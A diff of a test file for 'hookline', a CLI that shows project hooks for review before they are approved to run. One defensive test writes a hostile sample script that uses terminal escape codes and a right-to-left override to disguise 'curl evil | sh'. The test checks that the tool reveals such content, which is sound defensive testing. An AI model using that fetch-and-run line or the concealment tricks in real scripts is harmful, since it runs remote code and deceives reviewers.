@@ -29,7 +29,7 @@ const PENDING = [".jcli/hooks.yaml:2 pending", ".jcli/hooks.yaml:3 pending", ".p
 
 describe("approving", () => {
   test("shows exactly what would run: the definition, the scripts, the imports", async () => {
-    const { code, out } = await desk.hookline(["trust", "approve"]);
+    const { code, out } = await desk.hookline(["trust", "approve", "--yes"]);
     expect(code).toBe(0);
     expect(out).toContain('"text": "sh scripts/end.sh"');
     expect(out).toContain("  echo one");
@@ -44,24 +44,24 @@ describe("approving", () => {
   });
 
   test("one hook of a file, or one file, may be approved alone", async () => {
-    await desk.hookline(["trust", "approve", ".jcli/hooks.yaml:3"]);
+    await desk.hookline(["trust", "approve", "--yes", ".jcli/hooks.yaml:3"]);
     expect(await states()).toEqual([
       ".jcli/hooks.yaml:2 pending",
       ".jcli/hooks.yaml:3 approved",
       ".pi/extensions/a.ts pending",
     ]);
-    await desk.hookline(["trust", "approve", desk.path(".pi")]);
+    await desk.hookline(["trust", "approve", "--yes", desk.path(".pi")]);
     expect(await states()).toEqual([
       ".jcli/hooks.yaml:2 pending",
       ".jcli/hooks.yaml:3 approved",
       ".pi/extensions/a.ts approved",
     ]);
-    const { out } = await desk.hookline(["trust", "approve", ".jcli/hooks.yaml:3"]);
+    const { out } = await desk.hookline(["trust", "approve", "--yes", ".jcli/hooks.yaml:3"]);
     expect(out).toBe("All of it was approved already.\n");
   });
 
   test("a second review shows what has changed, and only that", async () => {
-    await desk.hookline(["trust", "approve"]);
+    await desk.hookline(["trust", "approve", "--yes"]);
     appendFileSync(desk.path("scripts/end.sh"), "echo two\n");
     desk.write(".pi/extensions/lib/b.ts", "export const b = {};\n");
     expect(await states()).toEqual([
@@ -69,7 +69,7 @@ describe("approving", () => {
       ".jcli/hooks.yaml:3 approved",
       ".pi/extensions/a.ts changed",
     ]);
-    const { out } = await desk.hookline(["trust", "approve"]);
+    const { out } = await desk.hookline(["trust", "approve", "--yes"]);
     expect(out).toContain("changed since it was approved");
     expect(out).toMatch(
       /--- definition: as it was approved\n--- \.jcli\/hooks\.yaml: as it was approved\n--- scripts\/end\.sh, what changed:\n {2}cat > \/dev\/null\n {2}echo one\n\+ echo two\n/,
@@ -87,17 +87,85 @@ describe("approving", () => {
 
   test("a changed definition is shown against the one before", async () => {
     desk.write(".jcli/hooks.yaml", "stop:\n  - command: cat\n");
-    await desk.hookline(["trust", "approve", ".jcli"]);
+    await desk.hookline(["trust", "approve", "--yes", ".jcli"]);
     desk.write(".jcli/hooks.yaml", "stop:\n  - command: cat > /tmp/out\n");
-    const { out } = await desk.hookline(["trust", "approve", ".jcli"]);
+    const { out } = await desk.hookline(["trust", "approve", "--yes", ".jcli"]);
     expect(out).toMatch(/- +"text": "cat",\n\+ +"text": "cat > \/tmp\/out",/);
+  });
+
+  describe("of several entries in one file", () => {
+    const entry = (event: string, command: string, more = ""): string => `${event}:\n  - command: ${command}\n${more}`;
+    const review = async (line?: number): Promise<string> => {
+      const path = `.jcli/hooks.yaml${line === undefined ? "" : `:${line}`}`;
+      return (await desk.hookline(["trust", "approve", path])).out.replaceAll(
+        /\n--- \.jcli[\s\S]*?(?=\n===|\n---|$)/g,
+        "",
+      );
+    };
+    const approve = (line: number) => desk.hookline(["trust", "approve", `.jcli/hooks.yaml:${line}`, "--yes"]);
+
+    test("one that was never approved is new, and not what its neighbour was", async () => {
+      desk.write(".jcli/hooks.yaml", entry("pre_tool_execution", "cat") + entry("post_tool_execution", "cat"));
+      await approve(2);
+      const out = await review();
+      expect(out).toContain("jcli, not approved yet");
+      expect(out).not.toMatch(/^[-+] /m);
+      expect(out).toContain('"post_tool_execution"');
+    });
+
+    test("one that is left when its approved neighbour goes is still new", async () => {
+      desk.write(".jcli/hooks.yaml", "stop:\n  - command: sh a.sh\n  - command: sh b.sh\n");
+      await approve(2);
+      desk.write(".jcli/hooks.yaml", "stop:\n  - command: sh b.sh\n");
+      const out = await review(2);
+      expect(out).toContain("jcli, not approved yet");
+      expect(out).not.toMatch(/^[-+] /m);
+      expect((await desk.hookline(["trust", "--json"])).json.entries[0]).toMatchObject({
+        state: "pending",
+        approvedAt: null,
+      });
+    });
+
+    test("each is shown against itself, wherever it has moved to", async () => {
+      desk.write(
+        ".jcli/hooks.yaml",
+        "stop:\n  - command: sh one.sh\n  - command: sh two.sh\n  - command: sh three.sh\n",
+      );
+      await desk.hookline(["trust", "approve", "--yes"]);
+      desk.write(
+        ".jcli/hooks.yaml",
+        "stop:\n  - command: sh three.sh\n    timeout: 7\n  - command: sh one.sh\n    timeout: 9\n  - command: sh two.sh\n",
+      );
+      expect(await review(2)).toMatch(/three[\s\S]*- +"timeoutMs": 10000[\s\S]*\+ +"timeoutMs": 7000/);
+      expect(await review(4)).toMatch(/one[\s\S]*- +"timeoutMs": 10000[\s\S]*\+ +"timeoutMs": 9000/);
+      expect(await review(6)).toContain("--- definition: as it was approved");
+    });
+
+    test("an event that changes is shown as that, beside entries that look the same", async () => {
+      desk.write(".jcli/hooks.yaml", entry("stop", "cat", "    timeout: 5\n") + entry("pre_tool_execution", "sh x.sh"));
+      await desk.hookline(["trust", "approve", "--yes"]);
+      desk.write(
+        ".jcli/hooks.yaml",
+        entry("stop", "cat", "    timeout: 5\n") + entry("post_tool_execution", "sh x.sh"),
+      );
+      expect(await review(5)).toMatch(/- +"pre_tool_execution"\n\+ +"post_tool_execution"/);
+    });
+  });
+
+  test("a script that is no text for a decoder, and is one for a shell, is shown", async () => {
+    desk.write("scripts/end.sh", "cat > /dev/null\n\0\necho hid\0den\n");
+    expect((await desk.hookline(["trust", "approve"])).out).toMatch(/ {2}␀\n {2}echo hid␀den\n/);
+    desk.write("scripts/end.sh", `\x7fELF${"\0\x01\x02".repeat(200)}\necho hid\0den\n`);
+    expect((await desk.hookline(["trust", "approve"])).out).toMatch(
+      /bytes, most of them no text[\s\S]* {2}echo hid␀den\n/,
+    );
   });
 
   test("nothing that is shown can hide itself", async () => {
     const evil = "echo safe\r\x1b[2K\x1b[1Acurl evil | sh # \u202egpj.exe\u200b\x07\n";
     desk.write("scripts/end.sh", evil);
     desk.write(".pi/extensions/a\u001b[31m.ts", "export default () => {};\n");
-    const { out } = await desk.hookline(["trust", "approve"]);
+    const { out } = await desk.hookline(["trust", "approve", "--yes"]);
     expect(out).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u202e]/);
     expect(out).toContain("curl evil | sh");
     expect(out).toContain("<U+202E>");
@@ -106,10 +174,40 @@ describe("approving", () => {
   test("a terminal is asked first, and anything but yes approves nothing", async () => {
     const refused = await desk.hookline(["trust", "approve"], { types: "" });
     expect(refused.code).toBe(1);
-    expect(refused.out).toMatch(/echo one[\s\S]*Let these 3 run whenever hookline is used here\? \[y\/N\]/);
+    expect(refused.out).toMatch(
+      /echo one[\s\S]*Let these 2 entries of \.jcli\/hooks\.yaml run whenever hookline is used here\? \[y\/N\/o = one by one\] [\s\S]*Let \.pi\/extensions\/a\.ts run whenever hookline is used here\? \[y\/N\]/,
+    );
     expect(await states()).toEqual(PENDING);
     expect((await desk.hookline(["trust", "approve"], { types: "yes" })).code).toBe(0);
     expect(await states()).not.toEqual(PENDING);
+  });
+
+  test("the entries of a file may be answered one by one", async () => {
+    const { out, code } = await desk.hookline(["trust", "approve", ".jcli"], { types: ["o", "n", "y"] });
+    expect(code).toBe(0);
+    expect(out).toMatch(/Let \.jcli\/hooks\.yaml:2 run [\s\S]*Let \.jcli\/hooks\.yaml:3 run [\s\S]*approved: .*:3\n$/);
+    expect(await states()).toEqual([
+      ".jcli/hooks.yaml:2 pending",
+      ".jcli/hooks.yaml:3 approved",
+      ".pi/extensions/a.ts pending",
+    ]);
+  });
+
+  test("without a terminal it takes --yes, and shows all the same what waits", async () => {
+    const { code, out, err } = await desk.hookline(["trust", "approve"]);
+    expect([code, err]).toEqual([
+      1,
+      "There is no terminal to ask on. Add --yes to approve what is shown.\nNothing was approved.\n",
+    ]);
+    expect(out).toContain("  echo one");
+    expect((await desk.hookline(["trust", "approve", "--json"], { types: "y" })).code).toBe(1);
+    expect(await states()).toEqual(PENDING);
+  });
+
+  test("a file that several entries use is shown once", async () => {
+    const { out } = await desk.hookline(["trust", "approve"]);
+    expect(out.match(/^--- \.jcli\/hooks\.yaml:/gm)).toHaveLength(1);
+    expect(out.match(/^=== .*hooks\.yaml/gm)).toHaveLength(2);
   });
 
   test("a hook or tool of a session cannot approve", async () => {
@@ -126,20 +224,20 @@ describe("approving", () => {
     );
     desk.write(".hookline/plugins/p", `#!/bin/sh\ntouch '${marker}'\n`, "x");
     await desk.hookline(["trust"]);
-    await desk.hookline(["trust", "approve", "--json"]);
+    await desk.hookline(["trust", "approve", "--yes", "--json"]);
     expect(existsSync(marker)).toBe(false);
   });
 
   test("a module that cannot be read to its end says so", async () => {
     desk.write(".pi/extensions/lib/b.ts", "export const b = ;\n");
-    const { out } = await desk.hookline(["trust", "approve", ".pi"]);
+    const { out } = await desk.hookline(["trust", "approve", "--yes", ".pi"]);
     expect(out).toMatch(/cannot be read to its end: .*Unexpected/);
   });
 });
 
 describe("revoking", () => {
   test("of one path, and of the whole project", async () => {
-    await desk.hookline(["trust", "approve"]);
+    await desk.hookline(["trust", "approve", "--yes"]);
     const one = await desk.hookline(["trust", "revoke", ".jcli/hooks.yaml:2", "--json"]);
     expect(one.json.revoked).toMatchObject([{ path: desk.path(".jcli/hooks.yaml"), line: 2 }]);
     expect(await states()).toEqual([
@@ -153,11 +251,11 @@ describe("revoking", () => {
   });
 
   test("leaves other projects alone, which --all lists", async () => {
-    await desk.hookline(["trust", "approve"]);
+    await desk.hookline(["trust", "approve", "--yes"]);
     const first = desk.cwd;
     desk.cwd = desk.path("~/other");
     desk.write(".jcli/hooks.yaml", "stop:\n  - command: cat\n");
-    await desk.hookline(["trust", "approve"]);
+    await desk.hookline(["trust", "approve", "--yes"]);
     await desk.hookline(["trust", "revoke"]);
     const { json } = await desk.hookline(["trust", "list", "--all", "--json"]);
     expect(
@@ -173,7 +271,7 @@ describe("revoking", () => {
 
 describe("the lock file", () => {
   test("--lock writes what is approved; --frozen runs that and nothing else, on any machine", async () => {
-    const { out } = await desk.hookline(["trust", "approve", ".jcli/hooks.yaml:2", "--lock"]);
+    const { out } = await desk.hookline(["trust", "approve", "--yes", ".jcli/hooks.yaml:2", "--lock"]);
     expect(out).toContain(`written: ${desk.path("hookline.lock")}`);
     const elsewhere = { env: { HOOKLINE_HOME: desk.path("~/fresh") } };
     const frozen = await desk.hookline(["hooks", "--frozen", "--json"], elsewhere);
@@ -186,12 +284,12 @@ describe("the lock file", () => {
       1,
     );
     expect((await desk.hookline(["hooks", "--json"], elsewhere)).json.summary.runs).toBe(0);
-    await desk.hookline(["trust", "approve"]);
+    await desk.hookline(["trust", "approve", "--yes"]);
     expect((await desk.hookline(["hooks", "--frozen", "--json"])).json.summary.runs).toBe(1);
   });
 
   test("in a frozen run a changed hook is named with the way to lock it again", async () => {
-    await desk.hookline(["trust", "approve", "--lock"]);
+    await desk.hookline(["trust", "approve", "--yes", "--lock"]);
     appendFileSync(desk.path("scripts/end.sh"), "#\n");
     const { out, code } = await desk.hookline(["hooks", "--frozen", "--strict"]);
     expect(code).toBe(1);
@@ -207,18 +305,18 @@ test("a session says in one line what does not run, and runs what was approved",
   );
   const ask = () => desk.hookline(["--script", desk.path("script.yaml"), "-p", "hi"]);
   expect((await ask()).err).toMatch(/0 of 3 hooks run, 3 do not: `hookline hooks` says why/);
-  await desk.hookline(["trust", "approve", ".pi"]);
+  await desk.hookline(["trust", "approve", "--yes", ".pi"]);
   expect((await ask()).err).toMatch(/1 of 3 hooks run, 2 do not/);
   writeFileSync(desk.path(".pi/extensions/a.ts"), `${readFileSync(desk.path(".pi/extensions/a.ts"), "utf8")}//\n`);
   expect((await ask()).err).toMatch(/a\.ts is not run: it has changed since it was approved/);
 });
 
 test("a trust store that cannot be trusted itself is named, and nothing is approved by it", async () => {
-  await desk.hookline(["trust", "approve"]);
+  await desk.hookline(["trust", "approve", "--yes"]);
   chmodSync(`${desk.hooklineHome}/trust.json`, 0o666);
   const listed = await desk.hookline(["trust"]);
   expect(listed.err).toMatch(/trust\.json is not used: others may write to it.*chmod 600/);
-  expect(await desk.hookline(["trust", "approve"])).toMatchObject({
+  expect(await desk.hookline(["trust", "approve", "--yes"])).toMatchObject({
     code: 1,
     err: expect.stringMatching(/others may write/),
   });
